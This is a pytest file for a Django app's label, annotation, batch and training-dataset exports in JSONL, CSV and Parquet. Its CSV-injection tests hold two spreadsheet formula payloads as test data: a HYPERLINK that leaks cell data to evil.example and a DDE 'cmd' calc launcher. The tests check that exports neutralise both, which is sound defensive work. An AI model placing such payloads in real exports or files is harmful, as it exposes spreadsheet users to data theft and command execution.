"""Exports of resolved labels, annotations, a batch's items and a run's training dataset.

Each export round-trips in each format (JSONL read with ``json``, CSV with ``csv``, Parquet with
pyarrow), every row names the model version whose guess the item carried (two versions here, and a
baseline's guess that names none), clients read no annotator names, a bad ``output`` is a 400 naming
the parameter and the accepted values, and a large export streams.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.test import Client

from annotation.models import Guess, Product, ResolvedLabel, Task, TaskStatus
from tests.annotation.queue_helpers import lease, make_tasks, submit
from tests.conftest import client_for
from training import pipeline
from training.models import ModelVersion, RetrainBatch, RunStatus, TrainingRun
from training.services import batches as batch_services
from training.services import runs as run_services
from webapp import exports
from webapp.exports import Column

pytestmark = pytest.mark.django_db

FORMATS = ("jsonl", "csv", "parquet")
QUERIES = 4  # the caller's user, groups and token checks, then the rows in one query: none per row
# The answer per task position: (verdict, price, the version whose guess the item shows; None: a baseline)
PLAN = [("correct", "55", 3), ("accept", None, 4), ("correct", "300", 4), ("accept", None, None)]


@pytest.fixture(autouse=True)
def _settings(settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settings.ANNOTATION_GOLD_RATE = 0.0
    settings.ANNOTATION_BLIND_SHARE = 0.0
    settings.ARTIFACT_ROOT = tmp_path
    settings.RETRAIN_REPLAY_SHARE = 0.0
    settings.RETRAIN_OUT_OF_RANGE_MAX_SHARE = 1.0
    monkeypatch.setattr(pipeline, "run_step_send", lambda run_id: None)  # no worker here


def _body(response: Any) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    return b"".join(response.streaming_content)


def _rows(response: Any, output: str) -> list[dict[str, Any]]:
    """The export's rows as its format's own reader gives them (CSV: strings, '' for null)."""
    body = _body(response)
    if output == "jsonl":
        assert response["Content-Type"] == "application/x-ndjson"
        return [json.loads(line) for line in body.decode().splitlines()]
    if output == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        return list(csv.DictReader(io.StringIO(body.decode())))
    assert response["Content-Type"] == "application/vnd.apache.parquet"
    return pq.read_table(io.BytesIO(body)).to_pylist()


def _cell(output: str, value: Any) -> Any:
    """``value`` as a row of ``output`` holds it."""
    if output != "csv":
        return value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _label_items(annotator: User, n_extra: int = 0) -> tuple[list[Task], RetrainBatch]:
    """Four items whose guesses come from v3, v4, v4 and a baseline, labelled as PLAN says and batched;
    then ``n_extra`` more (v3's guesses) labelled after the batch, so no batch holds them."""
    v3 = ModelVersion.objects.create(number=3, base_model="tiny")
    v4 = ModelVersion.objects.create(number=4, base_model="tiny")
    tasks = make_tasks(len(PLAN) + n_extra)
    versions = {3: v3, 4: v4}
    for task, (_, _, number) in zip(tasks, PLAN + [("accept", None, 3)] * n_extra, strict=True):
        if number is not None:
            Guess.objects.filter(id=task.guess_id).update(model_version=versions[number], source="model")
    plan = {t.id: p for t, p in zip(tasks, PLAN, strict=False)}
    for _ in PLAN:
        assignment = lease(annotator)
        verdict, price, _version = plan[assignment.task_id]
        submit(annotator, assignment, verdict, price)
    batch = batch_services.batch_create_from_resolved(min_size=1)
    for _ in range(n_extra):
        submit(annotator, lease(annotator), "accept")
    return tasks, batch


def _expected_versions(tasks: list[Task], n_extra: int = 0) -> dict[int, int | None]:
    return {t.id: p[2] for t, p in zip(tasks, PLAN + [("accept", None, 3)] * n_extra, strict=True)}


# --- resolved labels ----------------------------------------------------------------------------------


@pytest.mark.parametrize("output", FORMATS)
def test_it_exports_resolved_labels_naming_the_guess_version_in_each_format(
    output: str, reviewer: User, annotator: User
) -> None:
    tasks, batch = _label_items(annotator, n_extra=1)
    response = client_for(reviewer).get("/api/v1/labels/export", {"output": output})
    assert response.streaming
    assert response["Content-Disposition"] == f'attachment; filename="labels.{output}"'
    rows = _rows(response, output)

    assert [r["task_id"] for r in rows] == [_cell(output, t.id) for t in sorted(tasks, key=lambda t: t.pk)]
    by_task = {r["task_id"]: r for r in rows}
    expected = _expected_versions(tasks, n_extra=1)
    assert {k: v["guess_model_version"] for k, v in by_task.items()} == {
        _cell(output, k): _cell(output, v) for k, v in expected.items()
    }
    first = by_task[_cell(output, tasks[0].id)]
    assert (first["price"], first["method"], first["guess_price"]) == ("55.00", "median", "100.00")
    assert first["n_correct"] == _cell(output, 1)
    assert first["product_id"] == tasks[0].product.external_id
    assert first["guess_shown"] == _cell(output, True)
    assert first["batch_id"] == _cell(output, batch.pk)
    assert by_task[_cell(output, tasks[-1].id)]["batch_id"] == _cell(output, None)  # labelled after the batch
    assert by_task[_cell(output, tasks[3].id)]["guess_source"] == "baseline:mean"


def test_it_filters_resolved_labels_by_batch_and_date(reviewer: User, annotator: User) -> None:
    tasks, _ = _label_items(annotator, n_extra=1)
    client = client_for(reviewer)

    def task_ids(**params: str) -> list[int]:
        return [r["task_id"] for r in _rows(client.get("/api/v1/labels/export", params), "jsonl")]

    assert task_ids(batched="false") == [tasks[-1].id]
    assert sorted(task_ids(batched="true")) == sorted(t.id for t in tasks[:-1])
    label = ResolvedLabel.objects.get(task=tasks[-1])
    assert task_ids(created_after=label.created.isoformat()) == [tasks[-1].id]
    assert tasks[-1].id not in task_ids(created_before=label.created.isoformat())
    assert task_ids(created_after="2999-01-01T00:00:00Z") == []


def test_api_clients_export_labels_and_annotations_without_annotators(
    api_client_user: User, annotator: User
) -> None:
    tasks, _ = _label_items(annotator)
    client = client_for(api_client_user)
    labels = _rows(client.get("/api/v1/labels/export", {"output": "csv"}), "csv")
    assert len(labels) == len(PLAN)
    for output in FORMATS:
        rows = _rows(client.get("/api/v1/annotations/export", {"output": output}), output)
        assert len(rows) == len(PLAN)
        assert not {"annotator", "seconds_spent", "gold"} & set(rows[0]), output
        versions = {r["task_id"]: r["guess_model_version"] for r in rows}
        assert versions == {_cell(output, k): _cell(output, v) for k, v in _expected_versions(tasks).items()}


def test_reviewers_export_annotations_as_csv_and_parquet_with_annotators(
    reviewer: User, annotator: User
) -> None:
    _label_items(annotator)
    for output in ("csv", "parquet"):
        rows = _rows(client_for(reviewer).get("/api/v1/annotations/export", {"output": output}), output)
        assert {r["annotator"] for r in rows} == {annotator.username}
        assert rows[0]["corrected_price"] in ("55.00", "300.00", "", None)


# --- batches ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("output", FORMATS)
def test_it_exports_a_batch_with_its_items_and_guess_versions(
    output: str, reviewer: User, annotator: User, api_client_user: User
) -> None:
    tasks, batch = _label_items(annotator)
    products = {t.product.external_id: n for t, (_, _, n) in zip(tasks, PLAN, strict=True)}
    baseline = batch.items.get(product=tasks[3].product)
    batch_services.batch_items_exclude(
        reviewer=reviewer, batch_id=batch.pk, item_ids=[baseline.pk], reason="no model guess"
    )

    response = client_for(reviewer).get(f"/api/v1/batches/{batch.pk}/export", {"output": output})
    assert response["Content-Disposition"] == f'attachment; filename="batch-{batch.pk}.{output}"'
    rows = _rows(response, output)
    assert {r["product_id"]: r["guess_model_version"] for r in rows} == {
        k: _cell(output, v) for k, v in products.items()
    }
    assert {r["batch_id"] for r in rows} == {_cell(output, batch.pk)}
    excluded = [r for r in rows if r["excluded"] == _cell(output, True)]
    assert [(r["product_id"], r["exclusion_reason"]) for r in excluded] == [
        (tasks[3].product.external_id, "no model guess")
    ]
    assert excluded[0]["excluded_by"] == reviewer.username
    corrected = next(r for r in rows if r["product_id"] == tasks[2].product.external_id)
    assert (corrected["price"], corrected["guess_price"], corrected["verdict"]) == (
        "300.00",
        "100.00",
        "correct",
    )
    assert corrected["annotators"] == ([annotator.username] if output != "csv" else annotator.username)

    client_rows = _rows(
        client_for(api_client_user).get(f"/api/v1/batches/{batch.pk}/export", {"output": output}), output
    )
    assert len(client_rows) == len(PLAN)
    assert not {"annotators", "excluded_by"} & set(client_rows[0])


def test_the_batch_page_links_its_exports(reviewer: User, annotator: User) -> None:
    _, batch = _label_items(annotator)
    client = Client()
    client.force_login(reviewer)
    page = client.get(f"/review/batches/{batch.pk}/").content.decode()
    for output in FORMATS:
        href = f"/api/v1/batches/{batch.pk}/export?output={output}"
        assert f'href="{href}"' in page
        assert _rows(client.get(href), output)  # the reviewer's session downloads it: no shell, no token
    home = client.get("/review/").content.decode()
    for output in FORMATS:
        assert f'href="/api/v1/labels/export?output={output}"' in home
        assert f'href="/api/v1/annotations/export?output={output}"' in home
    assert len(_rows(client.get("/api/v1/labels/export?output=csv&batched=false"), "csv")) == 0


# --- training datasets --------------------------------------------------------------------------------


def _built_dataset(
    reviewer: User, annotator: User, kind: str, monkeypatch: pytest.MonkeyPatch
) -> tuple[TrainingRun, list[Task]]:
    """A run's dataset built by the worker's own service, with a small tokenizer of the project's own
    making (``train_tokenizer``) in place of the base model's, which these rows do not need."""
    from training.engine import model_io
    from training.engine.bootstrap import train_tokenizer

    tasks, batch = _label_items(annotator)
    tokenizer = train_tokenizer([t.product.text for t in tasks], vocab_size=400)
    monkeypatch.setattr(
        model_io, "base_ref", lambda base, **kw: model_io.BaseRef(model="tiny", revision="r", local=True)
    )
    monkeypatch.setattr(run_services, "_load_tokenizer", lambda base: tokenizer)
    run = TrainingRun.objects.create(batch=batch, recipe=kind, recipe_name="tiny", base_model="tiny")
    assert run_services.dataset_build(run_id=run.pk) is not None, TrainingRun.objects.get(pk=run.pk).error
    return run, tasks


@pytest.mark.parametrize("kind", ["sft", "dpo", "kto"])
def test_it_exports_a_runs_dataset_as_stored_and_flattened(
    kind: str,
    reviewer: User,
    annotator: User,
    api_client_user: User,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    run, tasks = _built_dataset(reviewer, annotator, kind, monkeypatch)
    versions = {t.product.external_id: n for t, (_, _, n) in zip(tasks, PLAN, strict=True)}
    client = client_for(api_client_user)

    response = client.get(f"/api/v1/runs/{run.pk}/dataset")  # jsonl: the file as trained on
    stored = (Path(django_settings.ARTIFACT_ROOT) / run.dataset.path).read_bytes()
    assert _body(response) == stored
    assert response["X-Checksum-SHA256"] == run.dataset.sha256
    records = [json.loads(line) for line in stored.decode().splitlines()]
    assert records, kind
    for record in records:
        assert record["meta"]["guess_model_version"] == versions[record["meta"]["product_id"]]
        assert record["prompt"].endswith("Price is $")

    training_columns = {"sft": ["prompt", "completion"], "dpo": ["prompt", "chosen", "rejected"]}.get(
        kind, ["prompt", "completion", "label"]
    )
    for output in ("csv", "parquet"):
        rows = _rows(client.get(f"/api/v1/runs/{run.pk}/dataset", {"output": output}), output)
        assert list(rows[0]) == [*training_columns, "product_id", "batch_id", "guess_model_version"]
        assert [r["prompt"] for r in rows] == [r["prompt"] for r in records]  # the training text, unchanged
        assert {r["product_id"]: r["guess_model_version"] for r in rows} == {
            r["meta"]["product_id"]: _cell(output, r["meta"]["guess_model_version"]) for r in records
        }
        if kind == "kto":
            assert [r["label"] for r in rows] == [_cell(output, r["label"]) for r in records]
        if output == "parquet":  # and the Parquet loads with Hugging Face datasets as it is
            import datasets

            parquet = tmp_path / f"{kind}.parquet"
            parquet.write_bytes(_body(client.get(f"/api/v1/runs/{run.pk}/dataset", {"output": output})))
            loaded = datasets.Dataset.from_parquet(str(parquet), cache_dir=str(tmp_path / "hf-cache"))
            assert loaded.to_list() == rows
    if kind == "dpo":  # the corrections outside the green tolerance: the guesses of v3 and v4
        assert sorted(r["meta"]["guess_model_version"] for r in records) == [3, 4]

    client_page = Client()
    client_page.force_login(reviewer)
    assert (
        f'href="/api/v1/runs/{run.pk}/dataset?output=parquet"'
        in client_page.get(f"/review/runs/{run.pk}/").content.decode()
    )


def test_a_run_without_a_dataset_or_its_file_answers_404_or_409(
    reviewer: User, annotator: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare = TrainingRun.objects.create(recipe_name="tiny", base_model="tiny", status=RunStatus.QUEUED)
    response = client_for(reviewer).get(f"/api/v1/runs/{bare.pk}/dataset")
    assert response.status_code == 404
    assert "dataset" in response.json()["error"]["message"]

    run, _ = _built_dataset(reviewer, annotator, "sft", monkeypatch)
    (Path(django_settings.ARTIFACT_ROOT) / run.dataset.path).unlink()
    response = client_for(reviewer).get(f"/api/v1/runs/{run.pk}/dataset", {"output": "csv"})
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "dataset_missing"


# --- errors and size ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/labels/export",
        "/api/v1/annotations/export",
        "/api/v1/batches/1/export",
        "/api/v1/runs/1/dataset",
    ],
)
def test_an_unknown_format_is_a_400_naming_the_parameter_and_the_formats(reviewer: User, url: str) -> None:
    response = client_for(reviewer).get(url, {"output": "xlsx"})
    assert response.status_code == 400
    (message,) = response.json()["error"]["fields"]["output"]
    assert "xlsx" in message
    assert "jsonl, csv, parquet" in message


def test_a_csv_is_sent_whatever_the_accept_header_asks(reviewer: User, annotator: User) -> None:
    _label_items(annotator)
    response = client_for(reviewer).get("/api/v1/labels/export", {"output": "csv"}, HTTP_ACCEPT="text/csv")
    assert len(_rows(response, "csv")) == len(PLAN)


# --- CSV injection -------------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_a_csv_shows_a_formula_like_title_as_text_and_jsonl_and_parquet_keep_it(
    reviewer: User, annotator: User
) -> None:
    tasks, _ = _label_items(annotator)
    Product.objects.filter(id=tasks[0].product_id).update(title=EVIL)
    Product.objects.filter(id=tasks[1].product_id).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    client = client_for(reviewer)

    by_output = {
        output: {
            r["task_id"]: r for r in _rows(client.get("/api/v1/labels/export", {"output": output}), output)
        }
        for output in FORMATS
    }
    csv_rows, jsonl_rows = by_output["csv"], by_output["jsonl"]
    assert csv_rows[str(tasks[0].id)]["product_title"] == "'" + EVIL
    assert csv_rows[str(tasks[1].id)]["product_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert jsonl_rows[tasks[0].id]["product_title"] == EVIL
    assert by_output["parquet"][tasks[0].id]["product_title"] == EVIL
    # numbers are not text: prices, ids and plain titles come out as they are
    assert csv_rows[str(tasks[0].id)]["price"] == "55.00"
    assert csv_rows[str(tasks[2].id)]["product_title"] == tasks[2].product.title


def test_csv_escapes_formula_starts_in_text_columns_only() -> None:
    columns = (
        Column("title"),
        Column("price"),
        Column("delta", int),
        Column("score", float),
        Column("names", list),
    )
    rows = [
        {"title": "+1+cmd", "price": "-12.50", "delta": -3, "score": -0.5, "names": ["-x", "y"]},
        {"title": "\tTab", "price": "-1+2", "delta": 0, "score": 1.0, "names": []},
        {"title": "\rCR", "price": "7", "delta": 1, "score": None, "names": None},
        {"title": "a=b", "price": "+5", "delta": 2, "score": 2.0, "names": ["@me"]},
    ]
    body = b"".join(exports.csv_chunks(rows, columns)).decode()
    parsed = list(csv.reader(io.StringIO(body)))
    assert parsed[1:] == [
        ["'+1+cmd", "-12.50", "-3", "-0.5", "'-x;y"],
        ["'\tTab", "'-1+2", "0", "1.0", ""],
        ["'\rCR", "7", "1", "", ""],
        ["a=b", "+5", "2", "2.0", "'@me"],
    ]
    jsonl = [json.loads(line) for line in b"".join(exports.jsonl_chunks(rows, columns)).decode().splitlines()]
    assert [r["title"] for r in jsonl] == ["+1+cmd", "\tTab", "\rCR", "a=b"]


def test_a_large_export_streams_in_chunks_with_a_fixed_number_of_queries(
    reviewer: User, django_assert_max_num_queries: Any
) -> None:
    n = 3000
    products = Product.objects.bulk_create(
        Product(external_id=f"big-{i}", title=f"Big {i}", text=f"Item {i}.") for i in range(n)
    )
    version = ModelVersion.objects.create(number=7, base_model="tiny")
    guesses = Guess.objects.bulk_create(
        Guess(product=p, model_version=version, source="model", price="10.00") for p in products
    )
    tasks = Task.objects.bulk_create(
        Task(product=p, guess=g, status=TaskStatus.RESOLVED) for p, g in zip(products, guesses, strict=True)
    )
    ResolvedLabel.objects.bulk_create(
        ResolvedLabel(task=t, price="12.00", method="median", n_annotations=1, n_correct=1) for t in tasks
    )
    client = client_for(reviewer)
    for output in FORMATS:
        with django_assert_max_num_queries(QUERIES):
            response = client.get("/api/v1/labels/export", {"output": output})
            assert response.streaming, output
            chunks = list(response.streaming_content)
        body = b"".join(chunks)
        if output != "parquet":  # Parquet: one row group of up to 10,000 rows per chunk, then the footer
            assert len(chunks) >= 3, (output, len(chunks))
        response.streaming_content = iter([body])
        rows = _rows(response, output)
        assert len(rows) == n
        assert {r["guess_model_version"] for r in rows} == {_cell(output, 7)}
